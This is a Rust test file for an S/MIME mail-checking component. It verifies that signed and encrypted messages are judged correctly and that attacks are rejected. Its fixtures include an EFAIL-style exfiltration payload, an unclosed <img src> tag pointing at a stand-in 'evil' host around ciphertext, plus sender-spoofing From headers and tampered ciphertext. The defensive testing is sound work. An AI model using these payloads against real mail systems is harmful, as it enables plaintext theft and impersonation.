//! Judgements of whole messages, honest ones and attacks.

use base64::Engine;
use bytes::Bytes;
use crypto::smime::{ContentCipher, SigningIdentity, encrypt, sign};
use model::Site;

use super::*;
use crate::testing::{NOW, key, world};

const ENTITY: &str = "Content-Type: text/plain; charset=us-ascii\r\n\r\nGood morning.\r\n";

fn mail(from: &str, entity: &[u8]) -> Message {
    let head = format!("From: {from}\r\nTo: bob@company.example\r\nSubject: test\r\nMIME-Version: 1.0\r\n");
    Message::parse(Bytes::from([head.as_bytes(), entity].concat()), &Budget::default()).unwrap()
}

fn signed(signer: &str, entity: &[u8]) -> Bytes {
    let world = world();
    if signer.starts_with("paul") {
        let key = crypto::pki::SoftKey::from_pkcs8(&world.paul.private_pkcs8).unwrap();
        let identity = SigningIdentity { key: key.id().clone(), chain: vec![world.paul.certificate.clone()] };
        return sign(entity, &identity, &One(key), TraceId::new(), NOW).unwrap();
    }
    let identity = choose::signing(&world.site, &key(signer), NOW).unwrap();
    sign(entity, &identity, &world.keys(), TraceId::new(), NOW).unwrap()
}

struct One(crypto::pki::SoftKey);

impl KeyUse for One {
    fn kind(&self, _: &model::KeyId) -> Option<model::KeyKind> {
        Some(self.0.kind())
    }
    fn use_key(
        &self,
        _: &model::KeyId,
        _: TraceId,
        _: model::KeyPurpose,
        request: &model::KeyUseRequest<'_>,
    ) -> Result<model::SecretBytes, KeyUseError> {
        self.0.perform(request)
    }
}

fn sealed(entity: &[u8], cipher: ContentCipher) -> Bytes {
    encrypt(entity, &choose::own(&world().site, &[key("bob@company.example")]), cipher).unwrap()
}

fn judged_by(site: &Site, message: &Message, recipient: &str) -> Judgement {
    judged_for(site, message, &[recipient])
}

fn judged_for(site: &Site, message: &Message, recipients: &[&str]) -> Judgement {
    let keys = world().keys();
    let recipients: Vec<AddressKey> = recipients.iter().map(|recipient| key(recipient)).collect();
    let case = Case { site, keys: &keys, trace: TraceId::new(), recipients: &recipients, now: NOW };
    judge(message, &case, &Budget::default())
}

fn judged(message: &Message) -> Judgement {
    judged_by(&world().site, message, "bob@company.example")
}

const PAUL: &str = "Paul <paul@partner.example>";

#[test]
fn signed_then_encrypted_is_seen_layer_by_layer() {
    for (cipher, layer) in [(ContentCipher::Aes256Gcm, "encrypted-smime-gcm"), (ContentCipher::Aes256Cbc, "encrypted-smime-cbc")] {
        let judgement = judged(&mail(PAUL, &sealed(&signed("paul", ENTITY.as_bytes()), cipher)));
        assert_eq!(judgement.signature, SignatureVerdict::Valid, "{judgement:?}");
        assert_eq!(judgement.signer.as_deref(), Some("paul@partner.example"));
        assert_eq!(judgement.encryption, EncryptionWord::Smime);
        assert_eq!(judgement.layers, [layer, "signed-smime"]);
        assert_eq!(judgement.reasons.contains(&"unauthenticated".to_owned()), cipher == ContentCipher::Aes256Cbc);
        assert!(judgement.reasons.contains(&"revocation-not-checked".to_owned()));
    }
}

#[test]
fn triple_wrapped_counts_both_signatures() {
    let inner = sealed(&signed("paul", ENTITY.as_bytes()), ContentCipher::Aes256Cbc);
    let judgement = judged(&mail(PAUL, &signed("paul", &inner)));
    assert_eq!(judgement.layers, ["signed-smime", "encrypted-smime-cbc", "signed-smime"]);
    assert_eq!((judgement.signature, judgement.encryption), (SignatureVerdict::Valid, EncryptionWord::Smime));
    // The outer one by somebody else: the worst stands.
    let judgement = judged(&mail(PAUL, &signed("alice@company.example", &inner)));
    assert_eq!(judgement.signature, SignatureVerdict::Mismatch);
}

#[test]
fn x_4_another_recipients_mail_stays_closed() {
    let message = mail(PAUL, &sealed(ENTITY.as_bytes(), ContentCipher::Aes256Gcm));
    let judgement = judged_by(&world().site, &message, "alice@company.example");
    assert_eq!((judgement.encryption, judgement.reasons.as_slice()), (EncryptionWord::Failed, &["no-key".to_owned()][..]));
    assert_eq!(judged(&message).encryption, EncryptionWord::Smime);
}

#[test]
fn x_4_a_layer_opens_only_for_those_who_could_open_the_one_around_it() {
    let for_alice = choose::own(&world().site, &[key("alice@company.example")]);
    // Somebody puts what is for Bob alone inside a mail that only Alice can open.
    let outer = encrypt(&sealed(ENTITY.as_bytes(), ContentCipher::Aes256Gcm), &for_alice, ContentCipher::Aes256Gcm).unwrap();
    let judgement = judged_for(&world().site, &mail(PAUL, &outer), &["alice@company.example", "bob@company.example"]);
    assert_eq!(judgement.layers, ["encrypted-smime-gcm", "encrypted-smime-gcm"]);
    assert_eq!(
        (judgement.encryption, judgement.reasons.as_slice()),
        (EncryptionWord::Failed, &["closed-for: bob@company.example".to_owned(), "no-key".to_owned()][..])
    );
}

#[test]
fn x_1_tampered_and_joined_cipher_texts_release_nothing() {
    for cipher in [ContentCipher::Aes256Gcm, ContentCipher::Aes256Cbc] {
        let entity = sealed(ENTITY.as_bytes(), cipher).to_vec();
        let text = String::from_utf8(entity).unwrap();
        let (head, body) = text.split_once("\r\n\r\n").unwrap();
        let engine = base64::engine::general_purpose::STANDARD;
        let mut der = engine.decode(body.lines().collect::<String>()).unwrap();
        let at = der.len() - 40;
        der[at] ^= 1;
        let judgement = judged(&mail(PAUL, format!("{head}\r\n\r\n{}\r\n", engine.encode(&der)).as_bytes()));
        assert_eq!((judgement.encryption, judgement.reasons.as_slice()), (EncryptionWord::Failed, &["cannot-open".to_owned()][..]));
    }
    // Direct exfiltration: the cipher text as one part of many stays closed.
    let inner = String::from_utf8(sealed(ENTITY.as_bytes(), ContentCipher::Aes256Cbc).to_vec()).unwrap();
    let wrapped = format!(
        "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n--x\r\n{inner}\r\n--x--\r\n"
    );
    let judgement = judged(&mail(PAUL, wrapped.as_bytes()));
    assert_eq!(judgement.encryption, EncryptionWord::None);
    assert_eq!(judgement.reasons, ["encrypted-part-stays-closed: 1.2"]);
}

#[test]
fn x_2_wrapped_and_partial_signatures_are_no_valid_ones() {
    let inner = String::from_utf8(signed("paul", ENTITY.as_bytes()).to_vec()).unwrap();
    let partial = format!(
        "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nPay to account 1.\r\n--x\r\n{inner}\r\n--x--\r\n"
    );
    let judgement = judged(&mail(PAUL, partial.as_bytes()));
    assert_eq!(judgement.signature, SignatureVerdict::Partial, "{judgement:?}");
    assert_eq!(judgement.layers, ["signed-part"]);
    // Somebody else's signed mail, attached: it says nothing about this one.
    let attached = format!(
        "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nSee below.\r\n--x\r\n\
         Content-Type: message/rfc822\r\n\r\nFrom: {PAUL}\r\n{inner}\r\n--x--\r\n"
    );
    let judgement = judged(&mail("Mallory <mallory@partner.example>", attached.as_bytes()));
    assert_eq!(judgement.signature, SignatureVerdict::None, "{judgement:?}");
    // A third part beside content and signature is not covered.
    let boundary = inner.split("boundary=\"").nth(1).unwrap().split('"').next().unwrap();
    let more =
        inner.replace(&format!("--{boundary}--"), &format!("--{boundary}\r\nContent-Type: text/plain\r\n\r\nmore\r\n--{boundary}--"));
    assert_eq!(judged(&mail(PAUL, more.as_bytes())).signature, SignatureVerdict::Partial);
}

#[test]
fn cve_2026_2746_cve_2026_27445_the_signer_is_bound_to_from() {
    let entity = signed("paul", ENTITY.as_bytes());
    assert_eq!(judged(&mail(PAUL, &entity)).signature, SignatureVerdict::Valid);
    for (from, reason) in [
        ("Paul <pau1@partner.example>", "other-address: paul@partner.example"),
        ("\"paul@partner.example\" <eve@evil.example>", "other-address: paul@partner.example"),
        ("paul@partner.example, eve@evil.example", "from-several"),
        ("Paul", "from-unreadable"),
    ] {
        let judgement = judged(&mail(from, &entity));
        assert_eq!(judgement.signature, SignatureVerdict::Mismatch, "{from}");
        assert!(judgement.reasons.contains(&reason.to_owned()), "{from}: {:?}", judgement.reasons);
    }
    // From inside the protected part counts for nothing (CVE-2026-27443).
    let inside = signed("paul", format!("Content-Type: message/rfc822\r\n\r\nFrom: {PAUL}\r\n\r\nhello\r\n").as_bytes());
    assert_eq!(judged(&mail("eve@evil.example", &inside)).signature, SignatureVerdict::Mismatch);
}

#[test]
fn an_undecided_root_is_not_trusted() {
    let mut site = Site::clone(&world().site);
    site.roots.clear();
    let message = mail(PAUL, &signed("paul", ENTITY.as_bytes()));
    let judgement = judged_by(&site, &message, "bob@company.example");
    assert_eq!(judgement.signature, SignatureVerdict::Untrusted);
    assert_eq!(judged(&message).signature, SignatureVerdict::Valid, "the kept store was not given to another site");
}

#[test]
fn plain_mail_has_no_layers() {
    assert_eq!(judged(&mail(PAUL, ENTITY.as_bytes())), Judgement::default());
}
